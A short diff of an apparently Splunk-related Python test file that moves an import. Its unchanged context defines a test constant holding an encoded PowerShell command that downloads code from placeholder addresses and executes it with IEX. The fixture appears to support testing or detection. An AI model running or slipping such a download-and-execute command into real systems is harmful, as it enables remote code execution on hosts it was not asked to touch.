@@ -8,9 +8,9 @@ from pathlib import Path
 
 import pytest
 
+from app.spl.splunkd import Command, command, encoded
 from tests.encoding import b64
 from tests.running_service import runs, wait_until
-from tests.splunk_app.splunkd import Command, command, encoded
 
 COMMAND = f"powershell -enc {b64('IEX (iwr http://192.0.2.7/a); iwr http://192.0.2.8/b')}"
 
